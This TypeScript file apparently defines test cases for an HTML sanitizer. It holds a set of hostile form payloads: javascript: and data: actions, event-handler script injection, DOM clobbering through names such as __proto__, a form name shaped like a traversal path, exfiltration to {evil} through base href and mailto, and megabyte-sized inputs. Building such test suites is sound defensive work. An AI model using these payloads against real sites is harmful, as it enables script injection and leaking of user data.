import { family, type Attack } from './attack.js';

const go = '<button class="go">Send</button>';
const field = '<input name="a" value="1">';
const named = (names: string) =>
  names
    .split(' ')
    .map((name) => `<input name="${name}" value="x">`)
    .join('');

/** Forms that mean to go elsewhere, to run something, or to pass for something else; each is sent by its `.go`. */
export const forms: Attack[] = family('sent form', {
  'with an address': `<form action="{url}" method="post">${field}${go}</form>`,
  'of the top': `<form action="{url}" target="_top">${field}${go}</form>`,
  'of its parent': `<form action="{url}" target="_parent">${field}${go}</form>`,
  'in a new tab': `<form action="{url}" target="_blank">${field}${go}</form>`,
  'in a frame': `<iframe name="x"></iframe><form action="{url}" target="x">${field}${go}</form>`,
  'with a script address': `<form action="javascript:{js}">${field}${go}</form>`,
  'with data': `<form action="data:text/html;base64,{base64}">${field}${go}</form>`,
  'with an address of its button': `<form>${field}<button class="go" formaction="{url}" formmethod="post">x</button></form>`,
  'with a script address of its button': `<form>${field}<button class="go" formaction="javascript:{js}">x</button></form>`,
  'of the top by its button': `<form action="{url}">${field}<button class="go" formtarget="_top">x</button></form>`,
  'of a dialog': `<dialog open style="position: static"><form method="dialog" action="{url}">${field}${go}</form></dialog>`,
  'by a picture': `<form action="{url}">${field}<input type="image" class="go" alt="x" width="44" height="44" src="{seen}" formaction="{url}"></form>`,
  'by a button elsewhere': `<form id="f" action="{url}">${field}</form><button class="go" form="f" formaction="{url}">x</button>`,
  'in a form': `<form action="{url}">${field}<form action="{url}" onsubmit={js}>${go}</form></form>`,
  'in a table': `<table><form action="{url}"><tr><td>${field}${go}</td></tr></form></table>`,
  'in a label': `<label>x<form action="{url}">${field}${go}</form></label>`,
  'with a frame in a label': `<form>${field}<label><iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe>x</label>${go}</form>`,
  'in svg': `<svg width="200" height="200"><foreignObject width="200" height="200"><form action="{url}">${field}${go}</form></foreignObject></svg>`,
  'with fields named as what is asked of it': `<form action="{url}">${named('submit elements reportValidity checkValidity action method target noValidate requestSubmit')}${go}</form>`,
  'with fields named as what is asked of an element': `<form>${named('getAttribute setAttribute closest children replaceChildren append lastElementChild contains dispatchEvent')}${go}</form>`,
  'with fields named as what is asked of a document': `<form>${named('body head title documentElement querySelectorAll forms defaultView')}${go}</form>`,
  'with fields of the prototype': `<form>${field}${named('__proto__ constructor prototype toString valueOf hasOwnProperty isPrototypeOf')}${go}</form>`,
  'with 10,000 fields': `<form>${go}${field}${'<input name="b" value="2" type="hidden">'.repeat(10_000)}</form>`,
  'with a value of a megabyte': `<form>${go}${field}<input type="hidden" name="b" value="${'x'.repeat(1_000_000)}"></form>`,
  'with a name of a megabyte': `<form>${go}${field}<input type="hidden" name="${'x'.repeat(1_000_000)}" value="x"></form>`,
  'with HTML in it': `<form>${field}<input name="&lt;img src=x: onerror={js}&gt;" value="&lt;script&gt;{js}&lt;/script&gt;">${go}</form>`,
  'with a file': `<form>${field}<input type="file" name="b">${go}</form>`,
  'by its data': `<form onformdata={js}>${field}${go}</form>`,
  'by its end': `<form onsubmit={js} onreset={js}>${field}${go}</form>`,
  'by what is wrong': `<form><input name="a" value="1" pattern="2" oninvalid={js}><button class="go" formnovalidate>x</button></form>`,
  'by its choice': `<form><select name="a" onchange={js}><option onclick={js}>1</select>${go}</form>`,
  'called as HTML': `<form name="&lt;img src=x: onerror={js}&gt;">${field}${go}</form>`,
  'called as a path': `<form name="../../api/users/forget?x=#">${field}${go}</form>`,
  'called as the prototype': `<form name="__proto__">${field}${go}</form>`,
  'called as a method': `<form name="constructor">${field}${go}</form>`,
  'by post': `<form enctype="text/plain" method="post" action="mailto:eve@example.com">${field}${go}</form>`,
  'from another base': `<base href="{evil}/"><form action="pwned">${field}${go}</form>`,
  'with a field that takes the focus': `<form>${field}<input name="b" value="1" autofocus onfocus={js}>${go}</form>`,
  'with a search that sends itself': `<form action="{url}">${field}<input type="search" name="b" value="1" incremental onsearch={js}>${go}</form>`,
  'with a link in its button': `<form>${field}<button class="go"><a href="javascript:{js}">x</a></button></form>`,
});
